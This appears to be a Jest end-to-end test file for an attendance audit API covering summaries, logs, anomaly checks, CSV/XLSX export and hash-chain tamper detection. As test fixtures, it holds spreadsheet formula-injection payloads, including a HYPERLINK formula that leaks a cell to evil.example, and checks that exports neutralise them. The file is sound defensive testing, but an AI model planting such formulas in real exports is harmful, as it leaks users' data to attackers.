import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import { createTestApp, TestApp } from '../support/test-app';
import { seedOrg, Seed } from '../support/seed';
import { auditFactories } from './audit-scenario';

jest.setTimeout(60_000);

/** Collects a binary body (supertest buffers only text by default). */
const binary = (res: Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

/**
 * A hand-built scenario in Asia/Shanghai (UTC+8). Sessions (S…), all completed unless noted:
 *   S7 branchA 11-30 23:30 local (excluded: before `from`)   S6 branchA 12-01 00:00 local (included: first instant)
 *   S1 branchA 12-04 15:00                                    S8 groupA1 12-05 15:00 (included: subtree)
 *   S4 branchA 12-06 published (excluded: not completed)      S5 branchB 12-04 (excluded: other subtree)
 *   S2 branchA 12-11 23:30 local (included: `to` date)        S3 branchA 12-12 00:30 local (excluded: after `to`)
 */
describe('attendance audit (e2e)', () => {
  let t: TestApp;
  let seed: Seed;
  let f: ReturnType<typeof auditFactories>;
  const S: Record<string, { id: string; completedAt: Date | null }> = {};
  const seqs: Record<string, number> = {};
  const range = () => ({ unitId: seed.units.branchA, from: '2025-12-01', to: '2025-12-11' });
  const get = (path: string, query: Record<string, string> = {}, who: Parameters<Seed['auth']>[0] = 'auditor') =>
    t.http().get(`/api/v1/audit/attendance/${path}`).query(query).set('Authorization', seed.auth(who));

  beforeAll(async () => {
    t = await createTestApp();
    seed = await seedOrg(t);
    f = auditFactories(t, seed);
    S.S7 = await f.session('branchA', '2025-11-30T15:30:00Z', '集中学习会 11-30');
    S.S6 = await f.session('branchA', '2025-11-30T16:00:00Z', '集中学习会 12-01');
    S.S1 = await f.session('branchA', '2025-12-04T07:00:00Z', '集中学习会 12-04');
    S.S8 = await f.session('groupA1', '2025-12-05T07:00:00Z', '党小组学习会 12-05');
    S.S4 = await f.session('branchA', '2025-12-06T07:00:00Z', '集中学习会 12-06', 'published');
    S.S5 = await f.session('branchB', '2025-12-04T07:00:00Z', '第二支部学习会 12-04');
    S.S2 = await f.session('branchA', '2025-12-11T15:30:00Z', '集中学习会 12-11 晚');
    S.S3 = await f.session('branchA', '2025-12-11T16:30:00Z', '集中学习会 12-12 凌晨');

    await f.record(S.S7.id, 'memberA', 'absent');
    await f.record(S.S7.id, 'memberA1', 'absent');
    await f.record(S.S7.id, 'organiserA', 'absent');
    await f.record(S.S6.id, 'memberA', 'absent', { madeUpAt: '2025-12-02T03:00:00Z' });
    await f.record(S.S6.id, 'memberA1', 'present', { checkedInAt: '2025-11-30T15:58:00Z' });
    await f.record(S.S6.id, 'organiserA', 'late', { checkedInAt: '2025-11-30T16:10:00Z' });
    await f.record(S.S1.id, 'memberA', 'present', { checkedInAt: '2025-12-04T06:55:00Z' });
    await f.record(S.S1.id, 'memberA1', 'excused', { madeUpAt: '2025-12-06T02:00:00Z' });
    await f.record(S.S1.id, 'organiserA', 'late', { checkedInAt: '2025-12-04T07:10:00Z' });
    await f.record(S.S8.id, 'memberA1', 'absent');
    await f.record(S.S4.id, 'memberA', 'expected');
    await f.record(S.S4.id, 'memberA1', 'expected');
    await f.record(S.S4.id, 'organiserA', 'expected');
    await f.record(S.S5.id, 'memberB', 'absent');
    await f.record(S.S5.id, 'organiserB', 'present', { checkedInAt: '2025-12-04T06:50:00Z' });
    await f.record(S.S2.id, 'memberA', 'late', { checkedInAt: '2025-12-11T15:40:00Z' });
    await f.record(S.S2.id, 'memberA1', 'absent');
    await f.record(S.S2.id, 'organiserA', 'present', { checkedInAt: '2025-12-11T15:25:00Z' });
    await f.record(S.S3.id, 'memberA', 'absent');
    await f.record(S.S3.id, 'memberA1', 'absent');
    await f.record(S.S3.id, 'organiserA', 'late', { checkedInAt: '2025-12-11T16:40:00Z' });

    // Log of S1 and a few changes elsewhere, in seq order.
    for (const who of ['memberA', 'memberA1', 'organiserA'] as const) {
      seqs[`rosterS1${who}`] = await f.log(S.S1.id, who, 'roster', null, 'expected', '2025-11-27T07:00:00Z', { actor: 'organiserA' });
    }
    seqs.leaveS1 = await f.log(S.S1.id, 'memberA1', 'leave_approved', 'expected', 'excused', '2025-12-03T15:59:59.999Z', { actor: 'organiserA' });
    seqs.checkInS1 = await f.log(S.S1.id, 'memberA', 'check_in', 'expected', 'present', '2025-12-04T06:55:00Z');
    seqs.lateS1 = await f.log(S.S1.id, 'organiserA', 'check_in', 'expected', 'late', '2025-12-04T07:10:00Z');
    seqs.makeUpS1 = await f.log(S.S1.id, 'memberA1', 'make_up', 'excused', 'excused', '2025-12-06T02:00:00Z');
    seqs.markS5 = await f.log(S.S5.id, 'memberB', 'mark', 'present', 'absent', '2025-12-05T01:00:00Z', { actor: 'organiserB', reason: '更正：未到场' });
    seqs.completionS2 = await f.log(S.S2.id, 'memberA1', 'completion', 'expected', 'absent', new Date(S.S2.completedAt!.getTime() + 1), { actor: null });
    seqs.markS2 = await f.log(S.S2.id, 'memberA', 'mark', 'absent', 'late', '2025-12-12T02:00:00Z', { actor: 'organiserA', reason: '补录签到' });
    seqs.markS2again = await f.log(S.S2.id, 'memberA', 'mark', 'late', 'late', '2025-12-12T03:00:00Z', { actor: 'organiserA', reason: '核实' });

    // Outside every other test's range: titles a spreadsheet would run as formulas.
    S.F1 = await f.session('branchB', '2025-10-01T07:00:00Z', HYPERLINK);
    S.F2 = await f.session('branchB', '2025-10-01T09:00:00Z', '@SUM(1+1)');
    S.F3 = await f.session('branchB', '2025-10-01T11:00:00Z', '\t-2+3');
    for (const s of [S.F1, S.F2, S.F3]) await f.record(s.id, 'memberB', 'absent');
  });
  afterAll(() => t.close());

  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';
  const formulaRange = () => ({ unitId: seed.units.branchB, from: '2025-10-01', to: '2025-10-01' });

  describe('summary', () => {
    it('counts each member and the totals exactly over the completed sessions of the subtree in the local range', async () => {
      const res = await get('summary', range()).expect(200);
      expect(res.body).toEqual({
        from: '2025-12-01',
        to: '2025-12-11',
        unitId: seed.units.branchA,
        sessions: 4, // S6, S1, S8, S2
        members: [
          { userId: seed.users.memberA.id, displayName: '党员甲', unitId: seed.units.branchA, expected: 3, present: 1, late: 1, excused: 0, absent: 1, madeUp: 1, attendanceRate: 0.6667 },
          { userId: seed.users.memberA1.id, displayName: '党员甲一', unitId: seed.units.groupA1, expected: 4, present: 1, late: 0, excused: 1, absent: 2, madeUp: 1, attendanceRate: 0.25 },
          { userId: seed.users.organiserA.id, displayName: '支部书记甲', unitId: seed.units.branchA, expected: 3, present: 1, late: 2, excused: 0, absent: 0, madeUp: 0, attendanceRate: 1 },
        ],
        totals: { expected: 10, present: 3, late: 3, excused: 1, absent: 3, madeUp: 2, attendanceRate: 0.6 },
      });
    });

    it('takes the range edges in Shanghai time: 23:30 on `to` counts, 00:30 the day after does not', async () => {
      const day = await get('summary', { unitId: seed.units.branchA, from: '2025-12-11', to: '2025-12-11' }).expect(200);
      expect(day.body.sessions).toBe(1); // S2 at 23:30 local, not S3 at 00:30 on the 12th
      expect(day.body.totals).toMatchObject({ expected: 3, present: 1, late: 1, absent: 1 });
      const next = await get('summary', { unitId: seed.units.branchA, from: '2025-12-12', to: '2025-12-12' }).expect(200);
      expect(next.body.sessions).toBe(1); // S3
      const first = await get('summary', { unitId: seed.units.branchA, from: '2025-12-01', to: '2025-12-01' }).expect(200);
      expect(first.body.sessions).toBe(1); // S6 at 00:00 local, not S7 at 23:30 the day before
    });

    it('covers a whole subtree, the whole organisation without unitId, and gives zeros for an empty range', async () => {
      const dept = await get('summary', { unitId: seed.units.dept, from: '2025-12-01', to: '2025-12-11' }).expect(200);
      expect(dept.body.sessions).toBe(5); // + S5 of branchB
      expect(dept.body.totals).toMatchObject({ expected: 12, present: 4, absent: 4 });
      const all = await get('summary', { from: '2025-12-01', to: '2025-12-11' }).expect(200);
      expect(all.body.totals).toEqual(dept.body.totals);
      expect(all.body.unitId).toBeNull();
      const group = await get('summary', { unitId: seed.units.groupA1, from: '2025-12-01', to: '2025-12-11' }).expect(200);
      expect(group.body.sessions).toBe(1);
      expect(group.body.members).toEqual([expect.objectContaining({ userId: seed.users.memberA1.id, expected: 1, absent: 1, attendanceRate: 0 })]);
      const empty = await get('summary', { unitId: seed.units.branchA, from: '2027-01-01', to: '2027-01-31' }).expect(200);
      expect(empty.body).toMatchObject({ sessions: 0, members: [], totals: { expected: 0, present: 0, late: 0, excused: 0, absent: 0, madeUp: 0, attendanceRate: 0 } });
    });

    it('rejects bad input with 400 and an unknown unit with 404', async () => {
      await get('summary', { from: '2026-02-30' }).expect(400);
      await get('summary', { from: '2025-12-1' }).expect(400);
      await get('summary', { from: '2025-12-11', to: '2025-12-01' }).expect(400);
      await get('summary', { unitId: 'not-a-uuid' }).expect(400);
      await get('summary', { unitId: '00000000-0000-4000-8000-000000000000' }).expect(404);
      await get('summary', { extra: '1' }).expect(400);
    });
  });

  describe('log', () => {
    it('lists entries in seq order with filters and pagination; hashes are null until sealed', async () => {
      const s1 = await get('log', { sessionId: S.S1.id }).expect(200);
      expect(s1.body.total).toBe(7);
      expect(s1.body.items.map((e: { seq: number }) => e.seq)).toEqual(
        [seqs.rosterS1memberA, seqs.rosterS1memberA1, seqs.rosterS1organiserA, seqs.leaveS1, seqs.checkInS1, seqs.lateS1, seqs.makeUpS1],
      );
      expect(s1.body.items[3]).toEqual({
        seq: seqs.leaveS1,
        sessionId: S.S1.id,
        userId: seed.users.memberA1.id,
        actorId: seed.users.organiserA.id,
        action: 'leave_approved',
        fromStatus: 'expected',
        toStatus: 'excused',
        reason: null,
        at: '2025-12-03T15:59:59.999Z',
        prevHash: null,
        hash: null,
      });
      const mine = await get('log', { userId: seed.users.memberA1.id }).expect(200);
      expect(mine.body.items.map((e: { action: string }) => e.action)).toEqual(['roster', 'leave_approved', 'make_up', 'completion']);
      const both = await get('log', { userId: seed.users.memberA.id, sessionId: S.S2.id }).expect(200);
      expect(both.body.items.map((e: { seq: number }) => e.seq)).toEqual([seqs.markS2, seqs.markS2again]);
      // 2025-12-04 local is [12-03T16:00Z, 12-04T16:00Z): the leave at 23:59:59.999 local on the 3rd is outside.
      const day = await get('log', { from: '2025-12-04', to: '2025-12-04' }).expect(200);
      expect(day.body.items.map((e: { seq: number }) => e.seq)).toEqual([seqs.checkInS1, seqs.lateS1]);
      const page = await get('log', { limit: '3', offset: '2' }).expect(200);
      expect(page.body.total).toBe(11);
      expect(page.body.items.map((e: { seq: number }) => e.seq)).toEqual([seqs.rosterS1organiserA, seqs.leaveS1, seqs.checkInS1]);
      await get('log', { limit: '0' }).expect(400);
      await get('log', { sessionId: 'x' }).expect(400);
    });
  });

  describe('anomalies', () => {
    it('finds each kind over the whole history of the unit', async () => {
      const res = await get('anomalies', { unitId: seed.units.branchA }).expect(200);
      const items = res.body.items as { kind: string; userId?: string; sessionId?: string; count: number; madeUp?: number; detail: string }[];
      expect(items.filter((i) => i.kind === 'repeated_absence')).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ userId: seed.users.memberA.id, count: 3, madeUp: 1, detail: expect.stringContaining('缺席 3 次') }), // S7, S6 (made up), S3
          expect.objectContaining({ userId: seed.users.memberA1.id, count: 4, madeUp: 0 }), // S7, S8, S2, S3
        ]),
      );
      expect(items.filter((i) => i.kind === 'repeated_absence')).toHaveLength(2);
      expect(items.filter((i) => i.kind === 'repeated_late')).toEqual([
        expect.objectContaining({ userId: seed.users.organiserA.id, count: 3 }), // S6, S1, S3
      ]);
      // Not the completion entry of S2, not the make-up on S1; S5 is in another branch.
      expect(items.filter((i) => i.kind === 'changed_after_completion')).toEqual([
        expect.objectContaining({ userId: seed.users.memberA.id, sessionId: S.S2.id, count: 2 }),
      ]);
    });

    it('respects the range and the subtree', async () => {
      const inRange = await get('anomalies', range()).expect(200);
      expect(inRange.body.items).toEqual([expect.objectContaining({ kind: 'changed_after_completion', sessionId: S.S2.id })]);
      const dept = await get('anomalies', { unitId: seed.units.dept, from: '2025-12-01', to: '2025-12-11' }).expect(200);
      expect(dept.body.items.map((i: { sessionId: string }) => i.sessionId).sort()).toEqual([S.S2.id, S.S5.id].sort());
    });
  });

  describe('export', () => {
    const recordRows = [
      ['2025-12-01', '集中学习会 12-01', '第一党支部', 'membera', '党员甲', '缺席', '', '2025-12-02 11:00:00', '第一党支部'],
      ['2025-12-01', '集中学习会 12-01', '第一党支部', 'membera1', '党员甲一', '出席', '2025-11-30 23:58:00', '', '第一党小组'],
      ['2025-12-01', '集中学习会 12-01', '第一党支部', 'organisera', '支部书记甲', '迟到', '2025-12-01 00:10:00', '', '第一党支部'],
      ['2025-12-04', '集中学习会 12-04', '第一党支部', 'membera', '党员甲', '出席', '2025-12-04 14:55:00', '', '第一党支部'],
      ['2025-12-04', '集中学习会 12-04', '第一党支部', 'membera1', '党员甲一', '请假', '', '2025-12-06 10:00:00', '第一党小组'],
      ['2025-12-04', '集中学习会 12-04', '第一党支部', 'organisera', '支部书记甲', '迟到', '2025-12-04 15:10:00', '', '第一党支部'],
      ['2025-12-05', '党小组学习会 12-05', '第一党小组', 'membera1', '党员甲一', '缺席', '', '', '第一党小组'],
      ['2025-12-11', '集中学习会 12-11 晚', '第一党支部', 'membera', '党员甲', '迟到', '2025-12-11 23:40:00', '', '第一党支部'],
      ['2025-12-11', '集中学习会 12-11 晚', '第一党支部', 'membera1', '党员甲一', '缺席', '', '', '第一党小组'],
      ['2025-12-11', '集中学习会 12-11 晚', '第一党支部', 'organisera', '支部书记甲', '出席', '2025-12-11 23:25:00', '', '第一党支部'],
    ];
    // The make-up study is read back: 补学字数 (counted like Word) and 补学心得, empty without one.
    const expectedRows = recordRows.map((r) => [...r, ...(r[7] ? ['4', '补学心得'] : ['', ''])]);
    const headers = ['日期', '学习会', '单位', '用户名', '姓名', '状态', '签到时间', '补学时间', '本人所在单位', '补学字数', '补学心得'];

    it('writes CSV in UTF-8 with a BOM and Chinese headers, one row per record, named after the unit and range', async () => {
      const res = await get('export', { ...range(), format: 'csv' }).buffer(true).parse(binary).expect(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
      const disposition = res.headers['content-disposition'] as string;
      expect(disposition).toMatch(/^attachment; filename="attendance_2025-12-01_2025-12-11\.csv"; filename\*=UTF-8''/);
      expect(decodeURIComponent(disposition.split("UTF-8''")[1])).toBe('考勤_第一党支部_2025-12-01_2025-12-11.csv');
      const body = res.body as Buffer;
      expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const lines = body.subarray(3).toString('utf8').split('\r\n');
      expect(lines.pop()).toBe('');
      expect(lines).toEqual([headers, ...expectedRows].map((r) => r.join(',')));
    });

    it('writes the same rows as XLSX that exceljs reads back', async () => {
      const res = await get('export', { ...range(), format: 'xlsx' }).buffer(true).parse(binary).expect(200);
      expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(decodeURIComponent((res.headers['content-disposition'] as string).split("UTF-8''")[1])).toBe('考勤_第一党支部_2025-12-01_2025-12-11.xlsx');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(res.body as never);
      const sheet = workbook.worksheets[0];
      const rows: string[][] = [];
      sheet.eachRow({ includeEmpty: false }, (row) => rows.push(headers.map((_, i) => String(row.getCell(i + 1).value ?? ''))));
      expect(rows).toEqual([headers, ...expectedRows]);
    });

    it("neutralises CSV cells that a spreadsheet would run as formulas with a leading '", async () => {
      const res = await get('export', { ...formulaRange(), format: 'csv' }).buffer(true).parse(binary).expect(200);
      const text = (res.body as Buffer).subarray(3).toString('utf8');
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点我"")"`);
      expect(text).toContain(`,'@SUM(1+1),`);
      expect(text).toContain(`,'\t-2+3,`);
      for (const line of text.split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r-]/);
    });

    it('writes such a title into XLSX as a plain string cell, never a formula', async () => {
      const res = await get('export', { ...formulaRange(), format: 'xlsx' }).buffer(true).parse(binary).expect(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(res.body as never);
      const titles = workbook.worksheets[0].getColumn(2).values.slice(2);
      expect(titles).toEqual([HYPERLINK, '@SUM(1+1)', '\t-2+3']);
      workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
      const sheetXml = (res.body as Buffer).toString('latin1');
      expect(sheetXml).not.toMatch(/<f>/); // (zip entries are deflated: the load above is the real proof)
    });

    it('defaults to CSV, exports the whole organisation without unitId, and refuses a bad format', async () => {
      const res = await get('export', { from: '2025-12-01', to: '2025-12-11' }).buffer(true).parse(binary).expect(200);
      expect(decodeURIComponent((res.headers['content-disposition'] as string).split("UTF-8''")[1])).toBe('考勤_全部单位_2025-12-01_2025-12-11.csv');
      expect((res.body as Buffer).toString('utf8').trim().split('\r\n')).toHaveLength(1 + 12);
      await get('export', { format: 'pdf' }).expect(400);
      // Each export gives its connection back: more exports than the pool (10) has connections.
      for (let i = 0; i < 12; i++) await get('export', range()).buffer(true).parse(binary).expect(200);
      await get('export', { unitId: '00000000-0000-4000-8000-000000000000' }).expect(404);
    });
  });

  describe('access', () => {
    const paths = ['summary', 'log', 'verify', 'export', 'anomalies'];
    it.each(paths)('%s: admin and auditor only', async (path) => {
      for (const who of ['memberA', 'organiserA', 'memberDept'] as const) await get(path, {}, who).expect(403);
      await t.http().get(`/api/v1/audit/attendance/${path}`).expect(401);
      await get(path, {}, 'admin').expect(200);
    });
  });

  // Last: these seal the chain and finally tamper with the log.
  describe('verify', () => {
    const agreeing = { checked: 24, recordMismatches: [], recordMismatchCount: 0 };

    it('replays the log against every record: the 18 records the scenario wrote without a log entry are listed', async () => {
      const res = await get('verify').expect(200);
      expect(res.body).toMatchObject({ ok: false, entries: 0, unsealed: 11, checked: 24, recordMismatchCount: 18 });
      expect(res.body.brokenAt).toBeUndefined();
      expect(res.body.recordMismatches).toHaveLength(18);
      expect(res.body.recordMismatches).toContainEqual({ sessionId: S.S5.id, userId: seed.users.organiserB.id, recordStatus: 'present', logStatus: null });
      expect(res.body.recordMismatches.every((m: { logStatus: string | null }) => m.logStatus === null)).toBe(true);
      // Give those records the roster entries the real code writes with them.
      await t.db.query(
        `INSERT INTO attendance_log (session_id, user_id, action, to_status, at)
         SELECT r.session_id, r.user_id, 'roster', r.status, timestamptz '2025-12-13T00:00:00Z'
           FROM attendance_records r
          WHERE NOT EXISTS (SELECT 1 FROM attendance_log l WHERE l.session_id = r.session_id AND l.user_id = r.user_id)
          ORDER BY r.session_id, r.user_id`,
      );
    });

    it('recomputes the sealed chain and counts what is not sealed yet', async () => {
      const before = await get('verify').expect(200);
      expect(before.body).toEqual({ ok: true, entries: 0, unsealed: 29, ...agreeing });
      await f.seal(seqs.markS2);
      const sealed = await get('verify').expect(200);
      expect(sealed.body).toEqual({ ok: true, entries: 10, unsealed: 19, ...agreeing });
      const log = await get('log', { sessionId: S.S1.id }).expect(200);
      expect(log.body.items[0].prevHash).toBe('0'.repeat(64));
      expect(log.body.items[1].prevHash).toBe(log.body.items[0].hash);
    });

    it('walks the chain in batches (more entries than one batch)', async () => {
      await t.db.query(
        `INSERT INTO attendance_log (session_id, user_id, actor_id, action, from_status, to_status, at)
         SELECT $1, $2, $2, 'mark', 'late', 'late', timestamptz '2025-12-20T00:00:00Z' + g * interval '1 second' FROM generate_series(1, 12000) g`,
        [S.S3.id, seed.users.organiserA.id],
      );
      const [{ last }] = await t.db.query(`SELECT max(seq)::int AS last FROM attendance_log`);
      await f.seal(last);
      const res = await get('verify').expect(200);
      expect(res.body).toEqual({ ok: true, entries: 12_029, unsealed: 0, ...agreeing });
    });

    it('detects an entry left unsealed below the sealed end', async () => {
      const a = await f.log(S.S3.id, 'memberA', 'mark', 'absent', 'absent', '2025-12-30T00:00:00Z', { actor: 'organiserA' });
      const b = await f.log(S.S3.id, 'memberA', 'mark', 'absent', 'absent', '2025-12-30T00:00:01Z', { actor: 'organiserA' });
      await f.seal(b, (seq) => seq !== a);
      expect((await get('verify').expect(200)).body).toEqual({ ok: false, entries: 12_030, unsealed: 0, brokenAt: a, ...agreeing });
    });

    it('detects an entry altered behind the triggers’ back', async () => {
      await t.owner.query(`ALTER TABLE attendance_log DISABLE TRIGGER USER`);
      try {
        await t.owner.query(`UPDATE attendance_log SET reason = '篡改' WHERE seq = $1`, [seqs.lateS1]);
      } finally {
        await t.owner.query(`ALTER TABLE attendance_log ENABLE TRIGGER USER`);
      }
      expect((await get('verify').expect(200)).body).toEqual({ ok: false, entries: 12_030, unsealed: 0, brokenAt: seqs.lateS1, ...agreeing });
    });
  });
});
